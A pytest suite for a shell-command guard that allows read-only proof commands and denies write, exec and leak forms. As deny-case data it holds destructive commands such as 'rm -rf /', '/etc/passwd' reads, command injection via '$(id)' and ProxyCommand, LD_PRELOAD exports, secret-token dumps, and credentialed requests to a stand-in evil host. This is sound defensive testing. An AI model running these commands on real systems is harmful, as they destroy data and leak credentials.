

@pytest.mark.parametrize("command,rule", ALLOWED, ids=[c[:60] for c, _ in ALLOWED])
def test_allowed(command, rule):
    v = verdict_for(command, which=fake_which)
    assert (v.verdict, v.rule) == ("allow", rule), v.reason
    assert v.argv and v.argv[0] == command.split()[0]


@pytest.mark.parametrize("command,hosts,rule,allow", CREDENTIAL)
def test_curl_credential_host(command, hosts, rule, allow):
    v = verdict_for(command, bindings=_bindings(hosts), credential=True, which=fake_which)
    assert (v.allow, v.rule) == (allow, rule), v.reason


# issue 23 point 7: what the guard does not understand is denied, wherever it sits
NOT_UNDERSTOOD = [("\x0b", "control-char"), ("\x0c", "control-char"), ("\x1b", "control-char"),
                  ("\x7f", "control-char"), ("\x85", "control-char"), ("\u200b", "control-char"),
                  ("\u200d", "control-char"), ("\u202e", "control-char"), ("\u2060", "control-char"),
                  ("\ufeff", "control-char"), ("\u00ad", "control-char"), ("\U000e0041", "control-char"),
                  ("\u00a0", "unicode-space"), ("\u1680", "unicode-space"), ("\u2000", "unicode-space"),
                  ("\u2009", "unicode-space"), ("\u200a", "unicode-space"), ("\u202f", "unicode-space"),
                  ("\u205f", "unicode-space"), ("\u3000", "unicode-space"), ("\u2028", "unicode-space"),
                  ("\u2029", "unicode-space"), ("\u3164", "unicode-space"), ("\u2800", "unicode-space"),
                  ("\ufe0f", "unicode-space"), ("\u034f", "unicode-space")]


@pytest.mark.parametrize("char,rule", NOT_UNDERSTOOD, ids=[f"U+{ord(c):04X}" for c, _ in NOT_UNDERSTOOD])
def test_a_control_character_or_unicode_space_anywhere_is_denied_by_name(char, rule, tmp_path):
    from recall.guard import setup_verdict
    own = tmp_path / "own.sh"
    own.write_text("")
    own.chmod(0o600)
    proofs = ["kubectl get nodes", "curl -s -H 'Accept: x' https://x.example.com/", "tcp 127.0.0.1:22", "ssh jump01 hostname"]
    for proof in proofs:
        assert verdict_for(proof, which=fake_which).allow
        for at in (0, len(proof), proof.index(" "), proof.index(" ") + 1, len(proof) - 1):
            v = verdict_for(proof[:at] + char + proof[at:], which=fake_which)
            assert (v.verdict, v.rule) == ("deny", rule), (proof, at, v)
            assert f"U+{ord(char):04X}" in v.reason and "column" in v.reason
    quoted = verdict_for(f"curl -s -H 'Accept: a{char}b' https://x.example.com/", which=fake_which)
    assert (quoted.verdict, quoted.rule) == ("deny", rule)          # inside quotes too
    for step in (f"export A=1{char}", f"export A=1 {char}B=2", f"source {own}{char}", f"unset{char} A"):
        v = setup_verdict(step)
        assert (v.verdict, v.rule) == ("deny", rule), (step, v)
    assert rule in RULES
    only = verdict_for(char, which=fake_which)
    assert (only.verdict, only.rule) == ("deny", rule)              # not "empty": it is there, and not understood


def _bindings(urls) -> tuple:
    from recall.guard import binding_for
    return tuple(binding_for(f"s{i}", url) for i, url in enumerate(urls))


# (command, the linked secrets' own url:s, rule, allow) — ssh with a linked credential (issue 23 point 13)
SSH_BOUND = [
    ("ssh db01.example.com true", ["https://db01.example.com"], "ssh.probe", True),
    ("ssh ops@DB01.example.com hostname", ["https://db01.example.com/api"], "ssh.probe", True),
    ("ssh -p 2222 db01.example.com true", ["ssh://db01.example.com:2222"], "ssh.probe", True),
    ("ssh db01.example.com true", ["ssh://db01.example.com"], "ssh.probe", True),
    ("ssh evil.example.net true", ["https://db01.example.com"], "ssh.host", False),
    ("ssh db01.example.com.evil.example.net true", ["https://db01.example.com"], "ssh.host", False),
    ("ssh -l db01.example.com evil.example.net true", ["https://db01.example.com"], "ssh.host", False),
    ("ssh db01.example.com true", ["ssh://db01.example.com:2222"], "ssh.host", False),    # port 22
    ("ssh -p 2200 db01.example.com true", ["ssh://db01.example.com:2222"], "ssh.host", False),
    ("ssh db01.example.com true", ["https://db01.example.com", "https://db02.example.com"], "ssh.host", False),
    ("ssh db01.example.com true", ["http://db01.example.com"], "ssh.http", False),
    ("ssh 10.0.0.5 true", ["http://10.0.0.5:8080"], "ssh.http", False),
]


@pytest.mark.parametrize("command,urls,rule,allow", SSH_BOUND, ids=[f"{c} ← {u}" for c, u, _, _ in SSH_BOUND])
def test_ssh_with_a_linked_credential_reaches_only_that_secrets_own_host(command, urls, rule, allow):
    v = verdict_for(command, bindings=_bindings(urls), credential=True)
    assert (v.allow, v.rule) == (allow, rule), v.reason
    if not allow:
        assert "s0" in v.reason or "s1" in v.reason, v.reason        # names the secret whose host it is
    assert verdict_for(command).allow                               # without a credential: any host


# (command, the secrets' own url:s (none: no credential), rule, allow) — the kubectl port-forward
# pattern (issue 26 point 8): a proof that names no secret's variable (sends=False) may reach loopback
CURL_LOOPBACK = [
    ("curl -s http://127.0.0.1:8080/healthz", [], "curl.get", True),
    ("curl -sf http://localhost:8080/healthz", [], "curl.get", True),
    ("curl -sf http://[::1]:8080/healthz", [], "curl.get", True),
    ("curl -sfg 'http://[::1]:8080/a[1]'", [], "curl.get", True),
    ("curl -sf http://[::1]:8080/a[1]", [], "glob", False),                   # curl would glob the path
    ("curl -skL http://127.0.0.1:8080/healthz", ["https://kube.example.com"], "curl.get", True),
    ("curl -s https://localhost:8443/", ["https://kube.example.com"], "curl.get", True),
    ("curl -s http://127.0.0.2:8080/", ["https://kube.example.com"], "curl.http", False),   # not the three
    ("curl -s http://kube.example.com/", ["https://kube.example.com"], "curl.http", False),
    ("curl -s https://status.example.com/", ["https://kube.example.com"], "curl.host", False),
]
# the same with the credential in the request (sends=True): loopback only when it is the secret's url:
CURL_LOOPBACK_SENDS = [
    ("curl -s -H 'Authorization: Bearer X' http://127.0.0.1:8080/me", ["http://127.0.0.1:8080"], "curl.get", True),
    ("curl -s -H 'Authorization: Bearer X' 'http://[::1]:8080/me'", ["http://[::1]:8080"], "curl.get", True),
    ("curl -s -H 'Authorization: Bearer X' http://localhost/me", ["http://localhost"], "curl.get", True),
    ("curl -s -H 'Authorization: Bearer X' http://127.0.0.1:8080/me", ["https://kube.example.com"], "curl.host", False),
    ("curl -s -H 'Authorization: Bearer X' http://localhost:8080/me", ["http://127.0.0.1:8080"], "curl.host", False),
    ("curl -s -H 'Authorization: Bearer X' http://127.0.0.1:8081/me", ["http://127.0.0.1:8080"], "curl.host", False),
    ("curl -s -H 'Authorization: Bearer X' http://127.0.0.1:8443/me", ["https://127.0.0.1:8443"], "curl.http", False),
    ("curl -sk -H 'Authorization: Bearer X' http://127.0.0.1:8080/me", ["http://127.0.0.1:8080"], "curl.insecure", False),
    ("curl -s -H 'Authorization: Bearer X' http://kube.example.com/", ["http://kube.example.com"], "curl.http", False),
]


@pytest.mark.parametrize("command,urls,rule,allow,sends", [r + (False,) for r in CURL_LOOPBACK]
                         + [r + (True,) for r in CURL_LOOPBACK_SENDS])
def test_a_proof_to_loopback_sends_a_credential_only_to_its_own_loopback_url(command, urls, rule, allow, sends):
    v = verdict_for(command, bindings=_bindings(urls), credential=bool(urls), sends=sends)
    assert (v.allow, v.rule) == (allow, rule), v.reason


def test_cacert_under_home_is_allowed_and_run_with_the_tilde_expanded():
    from recall.guard import run_form
    v = verdict_for("curl -s --cacert ~/certs/ca.pem https://x.example.com/", which=fake_which)
    assert (v.allow, v.argv[3]) == (True, "~/certs/ca.pem")
    assert run_form(v.argv, "/home/u")[3] == "/home/u/certs/ca.pem"
    for command in ("curl -s --cacert ~other/ca.pem https://x.example.com/", "curl -s -A ~/ua https://x.example.com/",
                    "curl -s --cacert a~/ca.pem https://x.example.com/", "curl -s ~/x https://x.example.com/"):
        assert verdict_for(command, which=fake_which).rule == "tilde", command
    assert run_form(verdict_for("curl -q -s http://127.0.0.1:9/").argv, "/h")[:4] == ("curl", "-q", "--noproxy", "*")
    assert "--noproxy" not in run_form(verdict_for("curl -s https://x.example.com/").argv, "/h")


def test_every_denial_says_what_is_allowed_instead(tmp_path):
    """verify --dry-run prints each denial's reason: it ends in the allowed form, never just 'no'."""
    from recall.guard import setup_verdict
    verdicts = [verdict_for(c, which=fake_which) for c, _ in DENIED + NOT_UNDERSTOOD]
    verdicts += [verdict_for(c, bindings=_bindings(h), credential=True, which=fake_which) for c, h, _, _ in CREDENTIAL]
    verdicts += [verdict_for(c, bindings=_bindings(u), credential=True) for c, u, _, _ in SSH_BOUND]
    verdicts += [verdict_for(c, bindings=_bindings(u), credential=True, sends=True) for c, u, _, _ in CURL_LOOPBACK_SENDS]
    home, rows = setup_rows(tmp_path)
    verdicts += [setup_verdict(step, home=home) for step, _ in rows]
    denied = [v for v in verdicts if not v.allow]
    assert len(denied) > 400
    for v in denied:
        assert " — allowed: " in v.reason or "allowed: " in v.reason, (v.rule, v.reason)
        assert v.reason.split("allowed: ", 1)[1].strip(), v.rule
    assert "allowed: kubectl [--context C]" in verdict_for("kubectl delete pod x").reason
    assert "allowed: the proof pointed at jira.example.com" in verdict_for(
        "curl -s https://evil.example.net/", bindings=_bindings(["jira.example.com"]), credential=True).reason


def test_a_bare_host_binds_the_credential_to_that_host():
    v = verdict_for("curl -s https://j/", bindings=_bindings(["jira.example.com"]), credential=True)
    assert (v.allow, v.rule) == (False, "curl.host")
    assert verdict_for("curl -s https://jira.example.com/", bindings=_bindings(["jira.example.com"]),
                       credential=True).allow


def test_without_credential_host_k_and_L_are_fine():
    v = verdict_for("curl -skL https://anything.example.org/", which=fake_which)
    assert v.allow, v.reason


def test_every_rule_is_reached_by_a_real_command_and_every_verdict_is_documented(tmp_path):
    """Each rule id in RULES is the verdict of at least one real command string or setup step here,
    and no verdict names a rule RULES does not explain (verify --dry-run prints the rule id)."""
    from recall.guard import setup_verdict
    reached = set()
    for command, _ in DENIED + ALLOWED + NOT_UNDERSTOOD:
        reached.add(verdict_for(command, which=fake_which).rule)
    for command, hosts, _, _ in CREDENTIAL:
        reached.add(verdict_for(command, bindings=_bindings(hosts), credential=True, which=fake_which).rule)
    for command, urls, _, _ in SSH_BOUND:
        reached.add(verdict_for(command, bindings=_bindings(urls), credential=True).rule)
    for command, urls, _, _ in CURL_LOOPBACK_SENDS:
        reached.add(verdict_for(command, bindings=_bindings(urls), credential=True, sends=True).rule)
    home, rows = setup_rows(tmp_path)
    reached.update(setup_verdict(step, home=home).rule for step, _ in rows)
    reached.add(setup_verdict("kubectl config use-context ops", context="ops").rule)
    assert reached - set(RULES) == set()
    assert set(RULES) - reached == set()


def test_verdict_shape():
    v = verdict_for("kubectl get nodes")
    assert isinstance(v, Verdict) and v.argv == ("kubectl", "get", "nodes")
    with pytest.raises(dataclasses.FrozenInstanceError):
        v.allow = False  # type: ignore[misc]
    lexed = verdict_for("kubectl get nodes; id")
    assert lexed.argv == () and lexed.verdict == "deny"
    parsed = verdict_for("kubectl get secrets")
    assert parsed.argv == ("kubectl", "get", "secrets")
    assert "never ends" in verdict_for("kubectl get pods -w").reason


def test_non_string_is_denied_not_raised():
    assert verdict_for(None).rule == "empty"  # type: ignore[arg-type]


# ---------------------------------------------------------------- which decides for paths

def test_path_allowed_only_when_it_is_the_tool_on_path():
    calls = []

    def which(name):
        calls.append(name)
        return "/opt/tools/kubectl" if name == "kubectl" else None

    assert verdict_for("/opt/tools/kubectl get nodes", which=which).allow
    assert calls == ["kubectl"]
    v = verdict_for("/usr/bin/kubectl get nodes", which=which)
    assert (v.allow, v.rule) == (False, "path")
    v = verdict_for("/opt/tools/aws sts get-caller-identity", which=which)
    assert (v.allow, v.rule) == (False, "path")


def test_bare_names_never_consult_which():
    def which(name):
        raise AssertionError("which must not be called for a bare name")

    assert verdict_for("kubectl get nodes", which=which).allow
    assert verdict_for("tcp host:22", which=which).allow


def test_which_failures_and_relative_results_fail_closed():
    def broken(name):
        raise OSError("PATH lookup failed")

    assert verdict_for("/usr/local/bin/kubectl get nodes", which=broken).rule == "path"
    assert verdict_for("./kubectl get nodes", which=lambda n: "./kubectl").rule == "path"
    assert verdict_for("/usr/bin/sudo -k true", which=lambda n: "/usr/bin/sudo").allow
    assert verdict_for("/usr/bin/tcp h:22", which=lambda n: "/usr/bin/tcp").rule == "path"


def test_verdict_names_the_tool_however_argv0_spelled_it():
    """verify classifies, adds curl's -f -S and serializes az by this name, never by argv[0]."""
    which = {"curl": "/usr/bin/curl", "az": "/opt/az/bin/az", "sudo": "/usr/bin/sudo"}.get
    assert verdict_for("/usr/bin/curl -s https://x.example.com/", which=which).tool == "curl"
    assert verdict_for("/opt/az/bin/az account show --subscription s", which=which).tool == "az"
    assert verdict_for("/usr/bin/sudo -k true", which=which).tool == "sudo"
    assert verdict_for("kubectl get nodes", which=which).tool == "kubectl"
    assert verdict_for("/usr/local/bin/curl https://x.example.com/", which=which).tool == ""   # denied
    assert verdict_for("kubectl delete pod x", which=which).tool == ""


def test_default_which_is_real_path_lookup():
    v = verdict_for("/nonexistent/dir/kubectl get nodes")
    assert (v.allow, v.rule) == (False, "path")


# ---------------------------------------------------------------- fuzzing
# hypothesis is imported inside each test, so the tests above still run in a bare venv

META_PIECES = list(";&|<>()$`\n\r") + [
    "$(id)", "`id`", "<(id)", ">(id)", "${HOME}", "$HOME", "&&", "||", ">>", "2>&1", "\\\n", ";id"]
WORD_LIST = [
    "kubectl", "get", "nodes", "--context", "ops", "curl", "-sS", "-o", "/dev/null",
    "https://x.example.com/", "ssh", "host", "true", "aws", "sts", "get-caller-identity",
    "tcp", "h:22", "json", "sudo", "-k", "az", "account", "show", "=", "-", "a=b", "%{x}"]


def test_unquoted_metachar_is_never_allowed():
    hypothesis = pytest.importorskip("hypothesis")
    st = hypothesis.strategies
    single = st.text(st.characters(blacklist_characters="'"), max_size=8).map(lambda s: f"'{s}'")
    double = st.text(st.characters(blacklist_characters='"$`!\\'), max_size=8).map(lambda s: f'"{s}"')
    segment = st.one_of(st.sampled_from(WORD_LIST), single, double)
    separator = st.sampled_from(["", " ", "\t", "  "])

    @hypothesis.settings(deadline=None)
    @hypothesis.given(st.lists(segment, max_size=8), st.sampled_from(META_PIECES), st.data())
    def check(segments, meta, data):
        at = data.draw(st.integers(0, len(segments)))
        pieces = segments[:at] + [meta] + segments[at:]
        command = "".join(p + data.draw(separator) for p in pieces)
        v = verdict_for(command, which=fake_which)
        assert not v.allow
        assert v.rule in LEXER_RULES and v.argv == ()

    check()


def test_metachar_inserted_into_allowed_command_is_denied():
    hypothesis = pytest.importorskip("hypothesis")
    st = hypothesis.strategies
    unquoted = [c for c, _ in ALLOWED if "'" not in c and '"' not in c]

    @hypothesis.settings(deadline=None)
    @hypothesis.given(st.sampled_from(unquoted), st.sampled_from(list(";&|<>()$`*?[]{}~#!^\\\n\r")),
                      st.data())
    def check(command, meta, data):
        at = data.draw(st.integers(0, len(command)))
        v = verdict_for(command[:at] + meta + command[at:], which=fake_which)
        assert not v.allow and v.rule in LEXER_RULES

    check()


def test_any_text_gets_a_documented_verdict():
    hypothesis = pytest.importorskip("hypothesis")
    st = hypothesis.strategies

    @hypothesis.settings(deadline=None)
    @hypothesis.given(st.text(max_size=80))
    def check(text):
        v = verdict_for(text, which=fake_which)
        assert v.rule in RULES and isinstance(v.argv, tuple)
        if v.allow:
            assert v.rule.split(".")[0] in {"aws", "kubectl", "curl", "ssh", "sudo", "az", "gcloud", "true", "tcp"}

    check()


# ---------------------------------------------------------------- issue 14: ordinary proofs

def test_ssh_jump_only_through_an_inventory_host():
    hosts = ("jump01", "bastion.example.com")
    assert verdict_for("ssh -J jump01 db01 true", jump_hosts=hosts).allow
    assert verdict_for("ssh -J ops@jump01:2222 -o BatchMode=yes db01 hostname", jump_hosts=hosts).allow
    assert verdict_for("ssh -J jump01,bastion.example.com db01 true", jump_hosts=hosts).allow
    for command in ("ssh -J evil.example.net db01 true", "ssh -J jump01,evil db01 true",
                    "ssh -J jump011 db01 true", "ssh -J 'jump01 -oProxyCommand=id' db01 true"):
        v = verdict_for(command, jump_hosts=hosts)
        assert (v.allow, v.rule) == (False, "ssh.jump") or v.rule == "ssh.args", (command, v)
        assert "inventory" in v.reason or v.rule == "ssh.args"


def test_allowed_argv_is_what_bash_would_pass():
    """Where the lexer lets a backslash or ~/ through, bash splits the words the way the guard did."""
    import shutil
    import subprocess
    if shutil.which("bash") is None:
        pytest.skip("needs bash")
    from recall.guard import run_form
    for command in ('curl -s -o /dev/null -w "%{http_code}\\n" https://x.example.com/',
                    'curl -w "a\\tb\\n" https://x.example.com/', "tcp [::1]:22",
                    "ssh -i ~/.ssh/id host true", "ssh host 'hostname -f'",
                    "curl -s --cacert ~/ca.pem https://x.example.com/", "curl -sf http://[::1]:8080/healthz"):
        v = verdict_for(command, which=fake_which)
        assert v.allow, (command, v)
        words = command.split(" ", 1)[1]
        out = subprocess.run(["bash", "--noprofile", "--norc", "-c", f"printf '%s\\0' {words}"],
                             capture_output=True, text=True, cwd="/", env={"HOME": "/home/u", "PATH": "/usr/bin:/bin"})
        got = out.stdout.split("\0")[:-1]
        if v.tool == "curl":            # what recall runs: ~/ expanded by recall itself, as bash would
            ran = list(run_form(v.argv, "/home/u")[1:])
            want = ran[2:] if ran[:2] == ["--noproxy", "*"] else ran
        else:                           # ssh expands -i ~/KEY itself
            want = [w.replace("~/", "/home/u/", 1) if w.startswith("~/") else w for w in v.argv[1:]]
        assert got == want, command


# tool -> (a read-only form it allows, its write / exec / leak forms, each denied)
WRITE_FORMS = {
    "kubectl": ("kubectl get nodes", [
        "kubectl delete pod web", "kubectl apply -f x.yaml", "kubectl create ns x", "kubectl edit deploy web",
        "kubectl scale deploy web --replicas 0", "kubectl patch deploy web -p x", "kubectl exec web -- sh",
        "kubectl cordon node1", "kubectl drain node1", "kubectl port-forward svc/web 8080:80", "kubectl proxy",
        "kubectl cp web:/etc/passwd pw", "kubectl config use-context prod", "kubectl config view --raw",
        "kubectl get secrets -o yaml", "kubectl get --raw /api/v1/secrets", "kubectl debug node/n -it",
        "kubectl label node n x=y", "kubectl rollout restart deploy web", "kubectl run x --image=busybox"]),
    "curl": ("curl -s https://x.example.com/", [
        "curl -X POST https://x.example.com/", "curl -d a=b https://x.example.com/",
        "curl -T f https://x.example.com/", "curl -o /tmp/x https://x.example.com/",
        "curl -O https://x.example.com/f", "curl -K cfg https://x.example.com/",
        "curl -x http://p:3128 https://x.example.com/", "curl -u a:b https://x.example.com/",
        "curl file:///etc/passwd", "curl -H 'X-HTTP-Method-Override: DELETE' https://x.example.com/"]),
    "ssh": ("ssh host true", [
        "ssh host rm -rf /", "ssh host", "ssh host sh -c id", "ssh -L 1:db:5432 host true",
        "ssh -o ProxyCommand=id host true", "ssh -F cfg host true", "ssh -A host true", "ssh -t host true"]),
    "aws": ("aws sts get-caller-identity", [
        "aws s3 rm s3://b/k", "aws s3 cp s3://b/k k", "aws s3 sync . s3://b", "aws iam delete-user --user-name u",
        "aws ec2 terminate-instances --instance-ids i-1", "aws sts assume-role --role-arn x",
        "aws secretsmanager get-secret-value --secret-id x", "aws s3 presign s3://b/k"]),
    "az": ("az account show", [
        "az account set --subscription s", "az vm delete -n x", "az account get-access-token",
        "az keyvault secret show --name x"]),
    "gcloud": ("gcloud projects list", [
        "gcloud compute instances delete vm1", "gcloud compute ssh vm1", "gcloud auth print-access-token",
        "gcloud config set project p", "gcloud secrets versions access latest",
        "gcloud container clusters get-credentials c"]),
    "sudo": ("sudo -k true", ["sudo rm -rf /", "sudo -n rm x", "sudo -k sh", "sudo -u root true", "sudo -s"]),
    "true": ("true", ["true --help", "true x"]),
    "tcp": ("tcp host:22", ["tcp host:22 extra", "tcp -e host:22"]),
}


@pytest.mark.parametrize("tool", sorted(WRITE_FORMS))
def test_every_allowed_tool_keeps_its_write_forms_denied(tool):
    """For each tool the allow-list widened, its read form runs and its write or exec forms do not."""
    read, writes = WRITE_FORMS[tool]
    v = verdict_for(read, which=fake_which)
    assert (v.allow, v.tool) == (True, tool), (read, v)
    for command in writes:
        v = verdict_for(command, which=fake_which)
        assert not v.allow, (command, v)
        assert v.rule in RULES and v.reason, command


# ---------------------------------------------------------------- issue 14: setup steps

def setup_rows(tmp_path) -> tuple:
    """(home, [(step, rule)]): setup steps against files made in tmp_path (one owned by another user
    when the test runs as root, so it can give the file away)."""
    import os
    own = tmp_path / "own.sh"
    own.write_text("export A=1\n")
    own.chmod(0o600)
    loose = tmp_path / "loose.sh"
    loose.write_text("")
    loose.chmod(0o664)
    home = str(tmp_path)
    rows = [
        (f"source {own}", "setup.source"), (f". {own}", "setup.source"), ("source ~/own.sh", "setup.source"),
        (f"source '{own}'", "setup.source"),
        ("export AWS_PROFILE=ops", "setup.export"), ("export A=1 B='x y' C=\"z\"", "setup.export"),
        ("export KUBECONFIG=~/.kube/ops", "setup.export-path"), ("unset A B", "setup.unset"),
        (f"source {loose}", "setup.source-mode"), (f"source {tmp_path}/absent.sh", "setup.source-file"),
        (f"source {tmp_path}", "setup.source-file"), ("source own.sh", "setup.source-path"),
        ("source ./own.sh", "setup.source-path"), (f"source {own} arg", "setup.args"),
        ("export A", "setup.args"), ("export 1A=x", "setup.args"), ("export", "setup.args"),
        ("export PS4=x", "setup.export-name"), ("export LD_PRELOAD=/x.so", "setup.export-name"),
        ("export PYTHONPATH=/x", "setup.export-name"), ("export BASH_ENV=/x", "setup.export-name"),
        ("export X=$(id)", "shell-expansion"), ('export X="$(id)"', "shell-expansion"),
        ("export X=`id`", "shell-expansion"), ("export X=$HOME", "shell-expansion"),
        ("source <(curl -s https://x.example.com/)", "shell-metachar"), (f"source {own}; id", "shell-metachar"),
        ("export X=a~/b", "tilde"), ("export X=~root/b", "tilde"), ("source ~other/x", "tilde"),
        ("export X=*", "glob"), ("kubectl config use-context ops", "setup.global-state"),
        ("az account set --subscription s", "setup.global-state"), ("kubectx ops", "setup.global-state"),
        ("echo hi", "setup.command"), ("eval x", "setup.command"), ("aws sso login --profile ops", "setup.command"),
        ("", "empty"),
        (f"export KUBECONFIG={own}", "setup.export"), ("export KUBECONFIG=~/own.sh", "setup.export"),
        (f"export KUBECONFIG={own}:{loose}", "setup.export-path"), ("export KUBECONFIG=~/absent", "setup.export-path"),
        ("export AWS_CONFIG_FILE=cfg", "setup.export-path"), (f"export PATH={tmp_path}:/usr/bin", "setup.export"),
        ("export PATH=relative:/usr/bin", "setup.export-path"), (f"export CURL_HOME={tmp_path}", "setup.export"),
        ("export SSL_CERT_FILE=/etc/ssl/x.pem", "setup.export-name"), ("export HTTPS_PROXY=http://p:3128", "setup.export-name"),
        ("export HOME=/tmp", "setup.export-name"), ("export AWS_ENDPOINT_URL=https://x", "setup.export-name"),
        ("export GIT_SSH_COMMAND=id", "setup.export-name"), ("export https_proxy=http://p:3128", "setup.export-name"),
        ("export SSLKEYLOGFILE=/tmp/keys", "setup.export-name"), ("export ld_preload=/x.so", "setup.export-name"),
        ("export CLOUDSDK_API_ENDPOINT_OVERRIDES_COMPUTE=https://x/", "setup.export-name"), ("export AWS_PROFILE=ops AWS_REGION=eu-west-1", "setup.export"),
        *[(f"export {name}=x", "setup.export-name") for name in RUNS_A_PROGRAM + LOGS_REQUESTS],
        ("export AWS_PAGER=", "setup.export"), ("export GIT_PAGER=''", "setup.export"),      # an empty pager: none
        ("export AWS_DEFAULT_OUTPUT=json CLOUDSDK_CORE_PROJECT=p KUBE_NAMESPACE=web", "setup.export"),
    ]
    if os.getuid() == 0:
        theirs = tmp_path / "theirs.sh"
        theirs.write_text("")
        theirs.chmod(0o644)
        os.chown(theirs, 65534, 65534)
        rows.append((f"source {theirs}", "setup.source-owner"))
    return home, rows


# setup exports that make a tool start a program, or log requests with their credentials (issue 33 point 8)
RUNS_A_PROGRAM = ["LESSOPEN", "LESSCLOSE", "LESS", "MANPAGER", "MANOPT", "BROWSER", "KUBE_EDITOR", "GIT_EDITOR",
                  "AWS_PAGER", "GH_BROWSER", "SYSTEMD_PAGER", "PSQL_EDITOR", "FCEDIT", "ZDOTDIR", "EXECIGNORE",
                  "BASH_XTRACEFD", "CLOUDSDK_PYTHON", "DOCKER_CONFIG"]
LOGS_REQUESTS = ["CLOUDSDK_CORE_LOG_HTTP", "CLOUDSDK_CORE_LOG_HTTP_REDACT_TOKEN", "CLOUDSDK_CORE_VERBOSITY",
                 "AWS_DEBUG", "NODE_DEBUG", "DEBUG", "GODEBUG", "TF_LOG", "GRPC_TRACE", "AZURE_LOG_LEVEL",
                 "CURL_SSL_BACKEND", "KUBERNETES_SERVICE_HOST", "AWS_CONTAINER_CREDENTIALS_FULL_URI",
                 "NODE_TLS_REJECT_UNAUTHORIZED"]


def test_a_setup_export_that_starts_a_program_or_logs_requests_says_why_and_what_instead(tmp_path):
    from recall.guard import setup_verdict
    for name, says in [("LESSOPEN", "names a program that tools start"), ("KUBE_EDITOR", "names a program"),
                       ("CLOUDSDK_CORE_LOG_HTTP", "turns on logging that writes requests and their credentials"),
                       ("AWS_DEBUG", "turns on logging"), ("LD_PRELOAD", "makes programs load or run other code"),
                       ("CURL_CA_BUNDLE", "changes trust, proxies, endpoints")]:
        v = setup_verdict(f"export {name}=x")
        assert v.reason.startswith(f"{name} {says}") and "set it in a file you own and source that" in v.reason
        assert v.reason.endswith("— allowed: " + SETUP_FORM), v.reason


def test_a_use_context_step_is_stood_for_only_by_its_own_context():
    from recall.guard import setup_verdict
    v = setup_verdict("kubectl config use-context ops", context="ops")
    assert (v.allow, v.rule) == (True, "setup.context") and "kubectl gets --context ops" in v.reason
    for step, context in (("kubectl config use-context ops", "prod"), ("kubectl config use-context ops", ""),
                          ("kubectl config set-context ops", "ops"), ("kubectx ops", "ops")):
        assert setup_verdict(step, context=context).rule == "setup.global-state", (step, context)


def test_setup_steps_allow_only_forms_that_cannot_hide_a_command(tmp_path):
    from recall.guard import setup_verdict
    home, rows = setup_rows(tmp_path)
    for step, rule in rows:
        v = setup_verdict(step, home=home)
        assert (v.allow, v.rule) == (rule in ("setup.source", "setup.export", "setup.unset"), rule), (step, v)
        assert rule in RULES and v.reason


def test_shell_syntax_inserted_into_an_allowed_setup_step_is_denied(tmp_path):
    hypothesis = pytest.importorskip("hypothesis")
    st = hypothesis.strategies
    from recall.guard import setup_verdict
    own = tmp_path / "own.sh"
    own.write_text("")
    own.chmod(0o600)
    steps = [f"source {own}", f". {own}", "export AWS_PROFILE=ops", "export A=1 B=two", "unset A B"]
    assert all(setup_verdict(s).allow for s in steps)

    @hypothesis.settings(deadline=None)
    @hypothesis.given(st.sampled_from(steps), st.sampled_from(list(";&|<>()$`*?{}#!^\\\n\r") + ["$(id)", "`id`"]),
                      st.data())
    def check(step, meta, data):
        at = data.draw(st.integers(0, len(step)))
        v = setup_verdict(step[:at] + meta + step[at:])
        assert not v.allow and v.rule in LEXER_RULES, (step[:at] + meta + step[at:], v)

    check()
